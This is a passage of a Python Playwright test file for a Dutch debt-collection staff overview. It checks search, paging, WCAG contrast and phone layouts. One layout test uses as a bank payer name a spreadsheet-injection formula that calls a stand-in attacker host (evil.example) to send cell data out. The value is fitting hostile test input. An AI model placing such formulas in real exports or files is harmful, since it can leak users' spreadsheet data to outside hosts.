        page.on("console", lambda m: problems.append(m.text) if m.type in ("error", "warning") else None)
        page.on("pageerror", lambda error: problems.append(str(error)))
        page.on("requestfinished", lambda request: requests.append(request.url))
        page.goto(f"{address}/{path}")
        page.wait_for_load_state("load")
        # The style applies (the skip link waits out of sight), and the script is read, from d/ too.
        assert page.evaluate("getComputedStyle(document.querySelector('.skip-link')).position") == "absolute"
        assert {f"{address}/{_versioned(internal, name)}" for name in ("static/staff.css", "static/staff.js")} <= set(
            requests
        )
        if path == "index.html":
            page.locator("#claims-filter").fill("de wit")
            assert found_ids(page) == ["D-1006"]
            assert f"{address}/{_versioned(internal, SEARCH_INDEX)}" in requests
        context.close()
    assert problems == []  # the Content-Security-Policy holds with the query


def test_the_search_index_script_is_to_the_browser_what_its_json_says(demo_overview, demo_site):
    # Its JSON in a JavaScript string in single quotes, escaped: the browser makes the same data of it as the tests'
    # reader does, O'Connor's apostrophe and the amounts' no-break spaces too.
    script = (demo_site.internal / SEARCH_INDEX).read_text(encoding="utf-8")
    # From its folder, as the CSP asks, by the name the pages give it.
    demo_overview.add_script_tag(url=_versioned_uri(demo_site.internal, SEARCH_INDEX))
    assert demo_overview.evaluate("window.incassoSearch") == read_index(script)


@pytest.mark.parametrize(
    "typed, found",
    [
        ("D-1006", ["D-1006"]),  # the dossier number
        ("de wit", ["D-1006"]),  # the name
        ("HAKAN", ["D-1004"]),  # the contact person, any case
        ("j.visser@example", ["D-1005"]),  # the e-mail address
        ("0652703918", ["D-1006"]),  # the phone as dialled at home: stored "+31 6 52 70 39 18"
        ("06-52 70 39 18", ["D-1006"]),  # spaces and dashes do not count
        ("+31652703918", ["D-1006"]),
        ("0031 6 5270 3918", ["D-1006"]),
        ("030 232 4900", ["D-1007"]),  # a landline
        ("twijnstraat 21", ["D-1014"]),  # an address line
        ("oudegracht", ["D-1007", "D-1004"]),  # the street of two dossiers (hotel, restaurant)
        ("3511zh", ["D-1014"]),  # the postcode without its space
        ("3511 ZH", ["D-1014"]),
        ("nieuwegein", ["D-1009"]),  # the town
        ("RF44 D100 6", ["D-1006"]),  # the payment reference as printed
        ("rf44d1006", ["D-1006"]),  # ... typed without spaces, in lower case
        ("F2026-0091", ["D-1014"]),  # an invoice number
        ("f2026 0091", ["D-1014"]),  # ... with a space for the dash
        ("C2026-0007", ["D-1003"]),  # a credit note's number
        ("domstad", ["D-1009", "D-1008"]),  # the agency that has the file
        ("DOM-2026-0815", ["D-1008"]),  # the agency's own reference
        ("van rijn", ["D-1009"]),  # the bailiff
        ("jan smit", ["D-1011", "D-1018"]),  # a debt counsellor: every client they act for
        ("oconnor", ["D-1012"]),  # O'Connor without the apostrophe
        ("NL40 ASNB 0708 2441 96", ["D-1001"]),  # an unassigned credit's account: the dossier it may be from
        ("de wit 0652", ["D-1006"]),  # every word must match
        ("de wit 0641", []),
    ],
)
def test_the_search_finds_a_dossier_by_every_field_staff_know(demo_overview, typed, found):
    demo_overview.locator("#claims-filter").fill(typed)
    assert found_ids(demo_overview) == found
    assert demo_overview.locator("#claims-count").inner_text() == f"{len(found)} van 20 gevonden"


def test_the_search_sits_at_the_top_and_shows_only_what_it_found(demo_overview):
    finder, today = demo_overview.locator("#finder"), demo_overview.locator("#vandaag")
    assert finder.is_visible() and today.is_visible()
    assert finder.bounding_box()["y"] < today.bounding_box()["y"]  # above today's work, the first section
    assert finder.bounding_box()["y"] < 900  # on the first screen
    demo_overview.locator("#claims-filter").fill("twijnstraat")
    assert found_ids(demo_overview) == ["D-1014"]
    assert not today.is_visible() and not demo_overview.locator("#ouderdom").is_visible()
    found = demo_overview.locator("#found-table tr.claim[data-id='D-1014']")
    assert found.is_visible() and found.bounding_box()["y"] < 900  # the dossier found, right under the search
    demo_overview.locator("#claims-filter").press("Escape")
    assert today.is_visible() and len(table_ids(demo_overview)) == 20


def test_on_a_phone_what_the_search_found_follows_the_box_without_the_hint_between(browser, demo_site):
    """At 390 px the search's hint (nine lines) stood between the box and what it found, which began a screen
    below: while searching it goes on a phone (the box still names it to a screen reader), not on a wide screen.
    Before, it shows once the box is chosen (unchosen, it pushed a list page's first dossier off the screen)."""
    page = browser.new_page(viewport={"width": 390, "height": 800})
    page.goto((demo_site.internal / "index.html").as_uri())
    hint = page.locator("#finder-hint")
    assert not hint.is_visible()
    page.locator("#claims-filter").focus()
    assert hint.is_visible()
    page.locator("#claims-filter").fill("twijnstraat")
    assert found_ids(page) == ["D-1014"]
    assert not hint.is_visible()
    assert page.locator("#claims-filter").get_attribute("aria-describedby") == "finder-hint"
    box = page.locator("#finder").bounding_box()
    found = page.locator("#found-table tr.claim[data-id='D-1014']").bounding_box()
    assert found["y"] - (box["y"] + box["height"]) < 150  # the column heads between, no more
    page.set_viewport_size({"width": 1366, "height": 900})
    assert hint.is_visible()  # on a wide screen it takes three lines beside the results
    page.close()


def test_the_lines_to_assign_a_bank_credit_are_reached_and_copied_by_keyboard(held_demo_overview):
    # A success is shown for SUCCESS_SHOWN: read at the page's time, held from before the page loads (the count
    # its search set while loading is a timer of the page's time too, never one of the real clock).
    page = held_demo_overview
    page.locator("tr.credit .candidates a").first.focus()
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.id") == "bank-assign-1"
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.dataset.copy") == "bank-assign-1"
    page.keyboard.press("Enter")
    wait_until(page, "document.getElementById('bank-assign-1-status').textContent !== ''", page_ms=10)
    said = page.locator("#bank-assign-1-status").text_content()
    assert said == "Gekopieerd" or said.startswith("Kopiëren lukte niet")


def test_the_rate_notes_are_one_line_for_the_maintainer(demo_overview):
    # Two yellow banners naming src/incasso/law/rates.csv filled the first screen above the day's work.
    rates = demo_overview.locator("details.maintainer")
    summary = rates.locator("summary")
    assert summary.inner_text().startswith("Voor de beheerder van het programma: de tabel met wettelijke")
    assert rates.bounding_box()["height"] < 40  # one line
    assert not demo_overview.get_by_text("rates.csv", exact=False).first.is_visible()
    # No banner left for it (the demo's day, a Sunday, has today's work's note that no post goes: not the rates').
    assert demo_overview.locator("p.notice:not(.no-post)").count() == 0
    summary.click()
    assert demo_overview.get_by_text("rates.csv", exact=False).first.is_visible()  # the notes, a click away


def test_the_search_text_stays_in_the_page(demo_overview):
    address = demo_overview.url
    demo_overview.locator("#claims-filter").fill("Twijnstraat 21")
    demo_overview.locator("#claims-filter").press("Enter")
    assert demo_overview.url == address  # not in the address, so in no history, log or referrer
    assert found_ids(demo_overview) == ["D-1014"]


# -- contrast: every text on the overview and the dossier pages ---------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "index.html",
        "d/D-1004.html",  # invoices, payments and a note
        "d/D-1008.html",  # handed over
        "d/D-1012.html",  # a plan in arrears: its overdue instalment stands out
        "d/D-1014.html",  # paid, with a credit to refund
        "d/D-1016.html",  # written off, no link, contact details missing
    ],
)
def test_every_text_on_the_staff_pages_meets_wcag_aa_contrast(browser, demo_site, path):
    context = browser.new_context(viewport={"width": 1366, "height": 900})
    page = context.new_page()
    try:
        page.goto((demo_site.internal / path).as_uri())
        result = text_contrast(page)
    finally:
        context.close()
    assert result["checked"] > 40
    assert result["failures"] == []


def test_the_fixture_overview_meets_contrast_too(overview):
    # The staff fixture: an empty stage or bucket shows zero cells in the ageing table.
    assert overview.locator(".ageing-table td.zero").count() > 0
    result = text_contrast(overview)
    assert result["checked"] > 200 and result["failures"] == []


# -- a book longer than the overview shows: its lists on pages of their own --------------------------------

# So few rows a page that the staff fixture's 17 dossiers fill several: 3 tasks on the overview, 1 dossier
# of each stage, 2 rows a page.
SMALL = Limits(index_rows=3, group_rows=1, page_rows=2)


@pytest.fixture(scope="module")
def paged(site, tmp_path_factory):
    """The staff fixture's internal output with its overview written again in SMALL pages."""
    internal = tmp_path_factory.mktemp("paged") / "internal"
    shutil.copytree(site.internal, internal)
    books = read_books(FIXTURE / "ledger", AS_OF)
    claims = [assess(books.ledger, debtor, AS_OF) for debtor in books.ledger.debtors]
    book = staff_book(claims, books.ledger.creditor, AS_OF, "", lambda c: f"s/{c.debtor.id}/")
    write_overview(staff_environment(str(REPO / "theme")), book, internal, limits=SMALL)
    return internal


@pytest.fixture
def opened(browser):
    context = browser.new_context(viewport={"width": 1366, "height": 900})
    page = context.new_page()
    errors = []
    page.on("console", lambda m: errors.append(m.text) if m.type in ("error", "warning") else None)
    page.on("pageerror", lambda error: errors.append(str(error)))
    yield page
    context.close()
    assert errors == []


def test_the_overview_shows_the_first_rows_and_links_every_kind(opened, paged):
    opened.goto((paged / "index.html").as_uri())
    assert opened.locator("tr.task").count() == 3
    today = opened.locator("#vandaag")
    assert today.locator(".more .note").inner_text().startswith("Hier staan er 3 van 9: van elke soort de eerste")
    # The kinds and their counts come first, above the rows: what there is to do, at a glance.
    chips, first_row = today.locator(".more .kinds").bounding_box(), today.locator("tr.task").first.bounding_box()
    assert chips is not None and first_row is not None and chips["y"] < first_row["y"]
    kinds = today.locator(".kinds a").evaluate_all("links => links.map(a => [a.textContent, a.getAttribute('href')])")
    assert kinds[:2] == [
        ["Herinnering sturen 2", "vandaag/reminder.html"],
        ["Aanmaning sturen 3", "vandaag/dunning.html"],
    ]
    assert table_ids(opened) == ["O-LEGAL", "N-HANDOVER", "M-FINAL-DUE", "K-PLAN-LATE", "G-DISPUTE"] + [
        "C-SILENT",
        "A-OPEN",
        "P-PAID",
        "Q-OFF",
    ]  # the first of each stage
    more = opened.locator("#claims tr.group-more[data-group='dunning'] a")
    assert more.inner_text() == "Alle 4 dossiers in Aanmaning →"
    more.click()
    assert opened.url.endswith("/dossiers/dunning.html")


def test_a_stage_on_its_pages_in_order(opened, paged):
    opened.goto((paged / "dossiers" / "dunning.html").as_uri())
    assert opened.locator("h1").inner_text() == "Alle dossiers per fase: Aanmaning 4"
    assert table_ids(opened) == ["K-PLAN-LATE", "H-CALL"]
    pager = opened.locator("nav.pager").first
    assert pager.locator(".pager-label").inner_text() == "Pagina 1 van 2"
    assert opened.locator(".kinds [aria-current=page]").inner_text() == "Aanmaning 4"
    pager.locator("a[rel=next]").click()
    assert opened.url.endswith("/dossiers/dunning-2.html")
    assert table_ids(opened) == ["I-PROMISE", "J-PLAN-OK"]
    opened.locator("#claims a", has_text="Jansen").click()  # a dossier's page, from a page one folder down
    assert opened.url.endswith("/d/J-PLAN-OK.html")
    opened.locator("a.brand").click()
    assert opened.url.endswith("/index.html")


def test_a_stage_page_leads_to_every_stage_also_one_that_fits_on_the_overview(opened, paged):
    opened.goto((paged / "dossiers" / "dunning.html").as_uri())
    opened.locator(".kinds a", has_text="Open").click()  # 1 dossier: no page of its own
    assert opened.url.endswith("/index.html#g-open")
    assert opened.locator("#g-open .g-name").inner_text() == "Open"


def test_sorting_a_stage_s_page_sorts_the_whole_stage(opened, paged):
    opened.goto((paged / "dossiers" / "dunning.html").as_uri())
    header(opened, "Openstaand", "#claims").locator("button").click()
    assert sorted(found_ids(opened)) == ["H-CALL", "I-PROMISE", "J-PLAN-OK", "K-PLAN-LATE"]  # both pages
    amounts = [float(v) for v in column_values(opened, 2)]
    assert amounts == sorted(amounts, reverse=True)
    assert opened.locator("#claims-stage").input_value() == "dunning"


def test_the_search_on_any_page_looks_through_every_dossier(opened, paged):
    opened.goto((paged / "vandaag" / "reminder.html").as_uri())
    assert [r.get_attribute("data-id") for r in opened.locator("tr.task").all()] == ["C-SILENT", "B-OVER"]
    opened.locator("#claims-filter").fill("ff-2")  # an invoice of a dossier on no page of this list
    assert found_ids(opened) == ["M-FINAL-DUE"]
    link = opened.locator("#found-table a", has_text="Mulder")
    assert link.get_attribute("href") == "../d/M-FINAL-DUE.html"
    link.click()
    assert opened.url.endswith("/d/M-FINAL-DUE.html")


@pytest.mark.parametrize("path", ["index.html", "dossiers/dunning.html", "signalen/no_contact.html"])
def test_the_pages_of_the_lists_meet_contrast_too(opened, paged, path):
    opened.goto((paged / path).as_uri())
    result = text_contrast(opened)
    assert result["checked"] > 20 and result["failures"] == []
    opened.locator("#claims-filter").fill("b.v.")
    assert found_ids(opened)
    result = text_contrast(opened)  # the search's results
    assert result["checked"] > 20 and result["failures"] == []


# -- a book of 1,000 dossiers with the build's own limits: small first pages, a search across all ------------

LARGE = 1000


@pytest.fixture(scope="module")
def large(tmp_path_factory):
    """A synthetic ledger of LARGE dossiers (make bench's), its overview written as the build writes it."""
    return large_overview(tmp_path_factory.mktemp("large"), Language.NL)


@pytest.fixture(scope="module")
def large_in_english(tmp_path_factory):
    """The same, with the staff's words in English (STAFF_LANGUAGE "en")."""
    return large_overview(tmp_path_factory.mktemp("large-en"), Language.EN)


def large_overview(root, language: Language):
    from benchmarks.synthetic import AS_OF as SYNTHETIC_DAY
    from benchmarks.synthetic import write_ledger
    from pelican.plugins.incasso.staff import STATIC

    books = read_books(write_ledger(root / "ledger", LARGE), SYNTHETIC_DAY)
    claims = [assess(books.ledger, debtor, SYNTHETIC_DAY) for debtor in books.ledger.debtors]
    internal = root / "internal"
    internal.mkdir()
    with speaking(language):
        book = staff_book(claims, books.ledger.creditor, SYNTHETIC_DAY, "", lambda c: f"s/{c.debtor.id}/")
        write_overview(staff_environment(str(REPO / "theme")), book, internal)
    shutil.copytree(REPO / "theme" / STATIC, internal / "static")
    return internal


def test_a_large_book_s_overview_shows_the_first_rows_only(opened, large):
    limits = Limits()
    opened.goto((large / "index.html").as_uri())
    groups = opened.locator("#claims tr.group").count()
    assert 0 < len(table_ids(opened)) <= groups * limits.group_rows
    assert opened.locator("tr.task").count() <= limits.index_rows
    assert opened.locator("#claims tr.group-more").count() > 0  # the rest of a stage is a link away


def test_the_search_finds_any_dossier_of_a_large_book(opened, large):
    opened.goto((large / "index.html").as_uri())
    shown = set(table_ids(opened))
    for debtor_id in ("S-000000", "S-000487", "S-000999"):
        opened.locator("#claims-filter").fill(debtor_id)
        assert found_ids(opened) == [debtor_id]
        assert opened.locator("#claims-count").inner_text() == f"1 van {LARGE:,} gevonden".replace(",", ".")
    assert "S-000999" not in shown  # found although no row of this page shows it


def test_an_english_overview_counts_and_sorts_in_english(opened, large_in_english):
    opened.goto((large_in_english / "index.html").as_uri())
    assert opened.evaluate("document.documentElement.lang") == "en"
    opened.locator("#claims-filter").fill("S-000487")
    assert found_ids(opened) == ["S-000487"]
    said = opened.locator("#claims-count").inner_text()
    assert said == f"1 {words_en.UI['of_total']} {LARGE:,} {words_en.UI['shown']}"  # 1,000: grouped as in English
    opened.locator("#claims-filter").fill("")
    opened.locator("#claims-stage").select_option("reminder")
    header(opened, words_en.UI["debtor"]).locator("button").click()
    names = opened.eval_on_selector_all("#found-table tr.claim th a", "links => links.map(a => a.textContent)")
    collated = opened.evaluate("names => names.slice().sort(new Intl.Collator('en-IE').compare)", names)
    assert len(names) > 1 and names == collated


def test_what_was_typed_in_one_field_comes_before_words_spread_over_a_dossier(opened, large):
    # "Merelstraat 61" is S-000360's street and number; every other dossier in the Merelstraat has "61" in
    # its phone number as dialled from abroad (+31 6 1000...), so all 143 hold both words, and in the
    # overview's order the one typed need not come first (on 10,000 dossiers "Oudegracht 73" was first of 72
    # only by its stage).
    opened.goto((large / "index.html").as_uri())
    opened.locator("#claims-filter").fill("Merelstraat 61")
    ids = found_ids(opened)
    assert ids[0] == "S-000360" and len(ids) == 100  # the first hundred drawn
    heads = opened.locator("#found-table tr.group")
    assert heads.first.inner_text().startswith("Zoals getypt, in één gegeven")
    assert heads.first.inner_text().endswith("1 gevonden")
    assert found_groups(opened)[1:] and all(found_groups(opened)[1:])  # then the rest, stage by stage
    # The rest in the overview's order, as the street alone lists them.
    opened.locator("#claims-filter").fill("merelstraat")
    street = found_ids(opened)
    assert opened.locator("#found-table tr.group.together").count() == 0  # one word: nothing to put first
    assert street[0] != "S-000360"  # first above only because it was typed in one field
    assert ids[1:] == [i for i in street if i != "S-000360"][:99]
    # Sorted by a column, the column alone decides.
    opened.locator("#claims-filter").fill("Merelstraat 61")
    header(opened, "Openstaand").locator("button").click()
    amounts = [float(v) for v in column_values(opened, 2)]
    assert amounts == sorted(amounts, reverse=True) and opened.locator("#found-table tr.group").count() == 0


def test_every_dossier_sorted_is_drawn_a_hundred_at_a_time(opened, large):
    opened.goto((large / "index.html").as_uri())
    header(opened, "Openstaand", "#claims").locator("button").click()
    assert len(column_values(opened, 2)) == 100
    more = opened.locator("#found-more")
    assert more.is_visible() and more.inner_text().endswith(f"({LARGE - 100})")
    more.click()
    amounts = [float(v) for v in column_values(opened, 2)]
    assert len(amounts) == 200 and amounts == sorted(amounts, reverse=True)
    assert more.inner_text().endswith(f"({LARGE - 200})")
    assert opened.locator("#claims-count").inner_text() == f"{LARGE:,} van {LARGE:,} gevonden".replace(",", ".")


def test_the_last_more_by_keyboard_leaves_the_focus_on_the_first_row_it_drew(opened, large):
    opened.goto((large / "index.html").as_uri())
    header(opened, "Openstaand", "#claims").locator("button").click()
    assert len(column_values(opened, 2)) == 100
    more = opened.locator("#found-more")
    more.focus()
    while more.is_visible():
        opened.keyboard.press("Enter")
    assert len(column_values(opened, 2)) == LARGE
    focused = opened.evaluate("[document.activeElement.tagName, document.activeElement.closest('tr').dataset.id]")
    ids = found_ids(opened)
    assert focused == ["A", ids[900]]  # the first of the last hundred


def test_an_overview_of_an_earlier_day_says_so_and_not_to_send_its_letters(browser, site):
    """The night's build failed: yesterday's overview must not pass for today's (its letters may be sent)."""
    from datetime import datetime, timedelta

    for today, stale in ((AS_OF, False), (AS_OF + timedelta(days=1), True)):
        context = browser.new_context()
        page = context.new_page()
        page.clock.set_fixed_time(datetime(today.year, today.month, today.day, 9, 0))
        page.goto((site.internal / "index.html").as_uri())
        warning = page.locator("#stale")
        page.wait_for_load_state("load")
        assert warning.is_visible() is stale, today
        if stale:
            assert warning.inner_text().startswith("Deze pagina staat op 30 juni 2026, niet op vandaag")
            assert warning.get_attribute("role") == "alert"
        context.close()


@pytest.mark.parametrize("width", [1000, 1440])
def test_the_total_outstanding_wraps_after_eur_never_inside_the_number(browser, site, width):
    # A seven-figure total in the card: "EUR 1.236.009," and "59" on the next line was misread.
    context = browser.new_context(viewport={"width": width, "height": 900})
    page = context.new_page()
    page.goto((site.internal / "index.html").as_uri())
    lines = page.evaluate(
        """() => {
        const dd = [...document.querySelectorAll('.summary dd')].find(d => d.textContent.includes('EUR'));
        const text = dd.firstChild.nodeType === 3 ? dd.firstChild : dd.querySelector('*').firstChild;
        text.textContent = text.textContent.replace(/[0-9.,]+$/, '1.236.009,59');
        const number = text.textContent.lastIndexOf(' ') + 1;
        const range = document.createRange();
        range.setStart(text, number);
        range.setEnd(text, text.textContent.length);
        return new Set([...range.getClientRects()].map(r => Math.round(r.top))).size;
    }"""
    )
    context.close()
    assert lines == 1


# -- the bank section on a laptop's screen ------------------------------------------------------------------


def test_a_bank_credit_s_lines_to_assign_fit_a_1280_screen_beside_a_long_payer_name(browser, tmp_path):
    # A payer name or a description without a space to wrap at (a formula, a long reference) held its column
    # wide: at 1280 px the table ran 25 px past its box and cut the right edge of the lines to copy.
    from datetime import date

    from pelican.plugins.incasso.staff import STATIC
    from tests.support.bankfiles import CREDITOR_IBAN, Booking, camt053, write_bank
    from tests.support.ledgers import valid_creditor, valid_debtor, write_ledger

    day = date(2026, 11, 23)
    root = write_ledger(tmp_path / "ledger", creditor=valid_creditor(interest="none"), debtors=[valid_debtor()])
    formula = '=HYPERLINK("http://evil.example?x="&A1,"KlikHierVoorDeBetalingVanVandaag")'
    text = "BETALINGFACTUURF20260090ENF20260091KENMERKONBEKENDZIEBIJLAGE"
    write_bank(root, {"a.xml": camt053(CREDITOR_IBAN, [Booking("248.05", day, ref="X1", name=formula, text=text)])})
    books = read_books(root, day)
    claims = [assess(books.ledger, d, day) for d in books.ledger.debtors]
    book = staff_book(claims, books.ledger.creditor, day, "", lambda c: f"s/{c.debtor.id}/", bank=books.bank)
    internal = tmp_path / "internal"
    internal.mkdir()
    write_overview(staff_environment(str(REPO / "theme")), book, internal)
    shutil.copytree(REPO / "theme" / STATIC, internal / "static")
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    page.goto((internal / "index.html").as_uri())
    box = page.locator("#bank .table-scroll")
    assert box.evaluate("b => b.scrollWidth <= b.clientWidth"), box.evaluate("b => [b.scrollWidth, b.clientWidth]")
    lines, edge = page.locator("#bank-assign-1").bounding_box(), box.bounding_box()
    assert lines["x"] + lines["width"] <= edge["x"] + edge["width"]
    context.close()


def test_today_s_work_fits_a_1024_screen_beside_payments_to_pass_on(browser, tmp_path):
    # A payment to pass on lists each payment with its day and bank entry under the amount. That line did not
    # wrap: at 1024 px the table of today's work ran past its box, and the contact and signals were cut off.
    from datetime import date

    from incasso.payments.reference import rf_reference
    from pelican.plugins.incasso.staff import STATIC
    from tests.support.bankfiles import CREDITOR_IBAN, Booking, camt053, write_bank
    from tests.support.ledgers import event, invoice, valid_creditor, valid_debtor, write_ledger

    day = date(2026, 12, 4)
    debtor = valid_debtor(
        id="S-1",
        type="business",
        invoices=[invoice(number="F-1", date=date(2026, 7, 15), due=date(2026, 8, 14), amount="2000.00")],
        events=[
            event(date(2026, 10, 5), "final_notice", channel="email"),
            event(date(2026, 11, 10), "handover", agency="Incassobureau Domstad B.V."),
        ],
    )
    root = write_ledger(tmp_path / "ledger", creditor=valid_creditor(), debtors=[debtor])
    paid = [
        Booking("100.00", date(2026, 11, n), ref=f"2026111{n}000000", scor=rf_reference("S-1"), name="Autobedrijf")
        for n in (16, 23, 30)
    ]
    write_bank(root, {"a.xml": camt053(CREDITOR_IBAN, paid)})
    books = read_books(root, day)
    claims = [assess(books.ledger, d, day) for d in books.ledger.debtors]
    book = staff_book(claims, books.ledger.creditor, day, "", lambda c: f"s/{c.debtor.id}/", bank=books.bank)
    internal = tmp_path / "internal"
    internal.mkdir()
    write_overview(staff_environment(str(REPO / "theme")), book, internal)
    shutil.copytree(REPO / "theme" / STATIC, internal / "static")
    context = browser.new_context(viewport={"width": 1024, "height": 900})
    page = context.new_page()
    page.goto((internal / "index.html").as_uri())
    assert page.locator("#vandaag tr[data-kind='pass_on'] .detail").count() == 1
    box = page.locator("#vandaag .table-scroll")
    assert box.evaluate("b => b.scrollWidth <= b.clientWidth"), box.evaluate("b => [b.scrollWidth, b.clientWidth]")
    context.close()


def test_a_single_term_that_is_a_whole_field_comes_first(opened, tmp_path):
    # "000123" typed: X-0002's invoice number, also inside S-000123's id and S-001234's invoice number.
    # X-0002 is the least advanced, so the overview's order put it last; the whole field comes first now.
    from pelican.plugins.incasso.staff import STATIC
    from tests.support.ledgers import event, invoice, valid_creditor, valid_debtor, write_ledger

    debtors = [
        valid_debtor(id="S-000123", name="Eerste Partij", invoices=[invoice(number="F1")]),
        valid_debtor(id="S-001234", name="Tweede Partij", invoices=[invoice(number="F0001234")]),
        valid_debtor(id="X-0002", name="Derde Partij", invoices=[invoice(number="000123", due="2026-10-01")]),
    ]
    debtors[0]["events"] = [event(AS_OF.replace(month=2, day=10), "reminder", channel="email")]
    root = write_ledger(tmp_path / "ledger", creditor=valid_creditor(interest="none"), debtors=debtors)
    books = read_books(root, AS_OF)
    claims = [assess(books.ledger, d, AS_OF) for d in books.ledger.debtors]
    book = staff_book(claims, books.ledger.creditor, AS_OF, "", lambda c: f"s/{c.debtor.id}/")
    internal = tmp_path / "internal"
    internal.mkdir()
    write_overview(staff_environment(str(REPO / "theme")), book, internal)
    shutil.copytree(REPO / "theme" / STATIC, internal / "static")
    opened.goto((internal / "index.html").as_uri())
    assert table_ids(opened)[-1] == "X-0002"  # last in the overview's order
    opened.locator("#claims-filter").fill("000123")
    assert found_ids(opened) == ["X-0002", "S-000123", "S-001234"]
    heads = opened.locator("#found-table tr.group")
    assert heads.first.inner_text().startswith("Zoals getypt, in één gegeven")
    assert heads.first.inner_text().endswith("1 gevonden")
    opened.locator("#claims-filter").fill("00012")  # in all three, a whole field of none: the overview's order
    assert found_ids(opened)[-1] == "X-0002" and opened.locator("#found-table tr.group.together").count() == 0


# -- the accessibility audit of session 41 (WCAG 2.2 AA) ------------------------------------------------------------


def test_at_320_px_the_bank_files_read_wrap_instead_of_scrolling_the_page(browser, demo_site):
    """A bank file's path has no space to wrap at ("bank/rabobank_camt053_2026-11-16_2026-11-20.zip/camt053_
    NL34RABO..."): its line ran off a 320 px screen and the whole page scrolled sideways (WCAG 1.4.10)."""
    context = browser.new_context(viewport={"width": 320, "height": 700})
    page = context.new_page()
    page.goto((demo_site.internal / "index.html").as_uri())
    lines = page.locator("ul.bank-read li")
    assert any(len(max(text.split(), key=len)) > 60 for text in lines.all_inner_texts())  # a path, unbroken
    too_wide = page.evaluate(
        "[...document.querySelectorAll('ul.bank-read, ul.bank-read li')].filter(e => e.scrollWidth > e.clientWidth + 1)"
        ".map(e => e.textContent.slice(0, 60))"
    )
    width = page.evaluate("document.documentElement.scrollWidth")
    context.close()
    assert too_wide == [] and width <= 320


def test_the_maintainer_s_note_shows_the_focus_as_every_other_control_does(overview):
    """A 3 px ring, as links, buttons and fields have (WCAG 2.4.7, 2.4.13): the browser's own thin one was
    hardly seen on the note's yellow."""
    if not overview.locator("details summary").count():  # the note shows only while the rate table is due
        overview.evaluate(
            "document.querySelector('main').insertAdjacentHTML('afterbegin', "
            "'<details class=\"notice maintainer\"><summary>Rentetabel</summary><p>x</p></details>')"
        )
    summary = overview.locator("details summary").first
    summary.focus()
    overview.keyboard.press("Shift+Tab")
    overview.keyboard.press("Tab")  # by keyboard: :focus-visible
    assert overview.evaluate("document.activeElement.tagName") == "SUMMARY"
    style = overview.evaluate(
        "(e => [getComputedStyle(e).outlineStyle, getComputedStyle(e).outlineWidth])(document.activeElement)"
    )
    assert style == ["solid", "3px"]


def test_the_ageing_chart_is_named_for_what_it_shows_not_by_its_legend(overview):
    """The figure took its name from the legend in its caption, the stages run together ("Gerechtelijk
    Incassobureau Sommatie Aanmaning ..."): it is named by the chart's title."""
    figure = overview.get_by_role("figure")
    assert figure.count() == 1
    assert overview.get_by_role("figure", name=UI["ageing_chart"], exact=True).count() == 1


@pytest.mark.parametrize("path", ["index.html", "d/A-OPEN.html", "changes.html"])
def test_the_staff_pages_start_with_a_link_to_their_content(browser, site, path):
    """As the statement pages do (WCAG 2.4.1): past the header, to the page's main content, by keyboard."""
    context = browser.new_context(viewport={"width": 1366, "height": 900})
    page = context.new_page()
    page.goto((site.internal / path).as_uri())
    page.keyboard.press("Tab")
    link = page.evaluate("[document.activeElement.className, document.activeElement.getAttribute('href')]")
    visible = page.evaluate("document.activeElement.getBoundingClientRect().top >= 0")
    page.keyboard.press("Enter")
    landed = page.evaluate("document.activeElement.id")
    context.close()
    assert link == ["skip-link", "#content"] and visible
    assert landed == "content"


# -- a list page and the summary's cards on a phone and a laptop ---------------------------------------------

PHONE = {"width": 390, "height": 844}


def phone_page(browser, path, viewport=PHONE):
    """A page of the overview on a phone, on the day it was built (no stale warning above it)."""
    from datetime import datetime

    context = browser.new_context(viewport=viewport)
    page = context.new_page()
    page.clock.set_fixed_time(datetime(AS_OF.year, AS_OF.month, AS_OF.day, 9, 0))
    page.goto(path.as_uri())
    page.wait_for_load_state("load")
    return context, page


@pytest.mark.parametrize(
    "path",
    ["vandaag/review_dispute.html", "vandaag/dunning-2.html", "signalen/no_contact.html", "dossiers/dunning.html"],
)
def test_on_a_phone_a_list_page_shows_its_first_dossier_on_the_first_screen(browser, paged, path):
    # The search's hint, nine lines; the kinds' chips, six lines; the pager and the list's note above the rows
    # filled the first screen of a 390 px phone: the clerk scrolled before seeing one dossier.
    context, page = phone_page(browser, paged / path)
    first = page.locator("section.page tbody tr").first.bounding_box()
    wide = page.evaluate("document.scrollingElement.scrollWidth")
    # The current kind is seen in its row of chips, which scrolls sideways, not the page.
    current = page.locator(".kinds [aria-current=page]").bounding_box()
    context.close()
    assert first is not None and first["y"] + first["height"] <= PHONE["height"]
    assert wide <= PHONE["width"]
    assert current is not None and current["x"] >= 0 and current["x"] + current["width"] <= PHONE["width"]


def test_on_a_phone_the_header_and_heading_take_under_a_quarter_of_the_first_screen(browser, paged):
    # The header's three lines (name, date, warning: 144 px) and a two-line heading took 300 px of a 390 px phone.
    context, page = phone_page(browser, paged / "vandaag" / "dunning.html")
    header = page.locator("header.top").bounding_box()
    heading = page.locator("h1").bounding_box()
    warning_shown = page.locator("header.top .internal").is_visible()
    context.close()
    assert header is not None and header["height"] <= 100 and warning_shown
    assert heading is not None and heading["y"] + heading["height"] <= PHONE["height"] / 4


def test_on_a_phone_the_search_s_hint_shows_once_the_box_is_chosen(browser, paged):
    context, page = phone_page(browser, paged / "vandaag" / "dunning.html")
    hint = page.locator("#finder-hint")
    hidden_before = not hint.is_visible()
    page.locator("#claims-filter").focus()
    shown_in_the_box = hint.is_visible()
    context.close()
    assert hidden_before and shown_in_the_box


def test_on_a_phone_the_list_s_note_follows_its_rows_and_the_pager_above_them_is_one_line(browser, paged):
    context, page = phone_page(browser, paged / "vandaag" / "dunning.html")
    note = page.locator("section.page > .note").bounding_box()
    table = page.locator("section.page table").bounding_box()
    pager = page.locator("nav.pager").first
    box = pager.bounding_box()
    line = page.evaluate("parseFloat(getComputedStyle(document.querySelector('nav.pager')).lineHeight)")
    next_shown = pager.locator("a[rel=next]").is_visible()
    context.close()
    assert note is not None and table is not None and note["y"] >= table["y"] + table["height"]
    assert box is not None and box["height"] < 2 * line and next_shown


@pytest.mark.parametrize("width", [390, 1000, 1280, 1440])
def test_a_card_holds_an_eight_digit_amount_on_one_line(browser, site, width):
    # "Openstaand EUR 71.442.422,10" broke after EUR in its card at 1280 px (5 cards of 238 px).
    context, page = phone_page(browser, site.internal / "index.html", {"width": width, "height": 900})
    lines, overflow, wide = page.evaluate(
        """() => {
